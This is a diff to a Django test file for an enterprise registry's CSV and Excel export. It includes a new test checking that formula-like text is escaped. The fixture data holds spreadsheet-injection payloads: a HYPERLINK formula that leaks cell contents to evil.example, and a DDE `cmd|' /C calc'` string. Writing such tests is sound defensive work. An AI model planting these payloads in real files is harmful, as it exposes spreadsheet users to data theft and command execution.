@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from typing import Any
 
@@ -108,7 +109,7 @@ def test_excel_import_and_export_round_trip(client: Any, users: dict[str, Any], 
     client.force_login(users["committee"])
     exported = client.get(reverse("enterprises:export") + "?format=xlsx")
     assert exported.status_code == 200
-    sheet = load_workbook(io.BytesIO(exported.content)).active
+    sheet = load_workbook(io.BytesIO(exported.getvalue())).active
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][0] == "统一社会信用代码" and rows[1][0] == xinluo_chem.credit_code
     assert rows[1][6] == "新罗区/东城街道/东城第一网格"
@@ -160,8 +161,10 @@ def test_import_page_lists_problems_with_line_and_field(client: Any, users: dict
 
 def test_export_follows_filters(client: Any, users: dict[str, Any], xinluo_chem: Any, shanghang_site: Any) -> None:
     client.force_login(users["committee"])
-    body = client.get(reverse("enterprises:export") + "?format=csv&risk_category=construction").content.decode(
-        "utf-8-sig"
+    body = (
+        client.get(reverse("enterprises:export") + "?format=csv&risk_category=construction")
+        .getvalue()
+        .decode("utf-8-sig")
     )
     assert shanghang_site.name in body and xinluo_chem.name not in body
 
@@ -173,9 +176,44 @@ def test_export_query_count_does_not_grow_with_rows(
 
     EnterpriseFactory.create_batch(30, jurisdiction=org.jurisdiction("新罗区"), industry=org.industry("C2614"))
     client.force_login(users["committee"])
-    with django_assert_max_num_queries(8):
-        response = client.get(reverse("enterprises:export") + "?format=xlsx")
-    assert response.status_code == 200
+    for fmt in ("xlsx", "csv"):
+        with django_assert_max_num_queries(8):
+            response = client.get(reverse("enterprises:export") + f"?format={fmt}")
+            body = response.getvalue()  # a CSV's rows are read while it streams: count those queries too
+        assert response.status_code == 200 and body
+
+
+def test_export_escapes_text_a_spreadsheet_would_run_and_the_import_reads_it_back(
+    client: Any, users: dict[str, Any], org: Any
+) -> None:
+    from tests.factories import EnterpriseFactory
+
+    firm = EnterpriseFactory(
+        name='=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
+        contact_phone="+86 0597-2345678",
+        address="@SUM(1+1)*cmd|' /C calc'!A0",
+        employees=120,
+        jurisdiction=org.jurisdiction("新罗区"),
+        industry=org.industry("C2614"),
+    )
+    client.force_login(users["committee"])
+    text = client.get(reverse("enterprises:export"), {"format": "csv"}).getvalue().decode("utf-8-sig")
+    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == firm.credit_code)
+    assert row[1] == "'" + firm.name and row[14] == "'+86 0597-2345678" and row[3] == "'" + firm.address
+    assert row[11] == "120"  # a number is not escaped
+
+    book = load_workbook(io.BytesIO(client.get(reverse("enterprises:export"), {"format": "xlsx"}).getvalue()))
+    cells = next(r for r in book.active.iter_rows() if r[0].value == firm.credit_code)
+    assert cells[1].value == "'" + firm.name and cells[1].data_type == "s"  # text, never a formula
+    assert cells[11].value == 120 and cells[11].data_type == "n"
+
+    # The file imported back gives the same name, not one with a quote in front.
+    upload = io.BytesIO(text.encode("utf-8-sig"))
+    upload.name = "back.csv"
+    result = enterprise_import(actor=users["committee"], filename="back.csv", content=upload.getvalue())
+    assert result.imported, result.problems
+    firm.refresh_from_db()
+    assert firm.name.startswith("=HYPERLINK") and firm.contact_phone == "+86 0597-2345678"
 
 
 @pytest.mark.parametrize("employees", ["12.5", "1e400", "-3", "nan", "十二"])
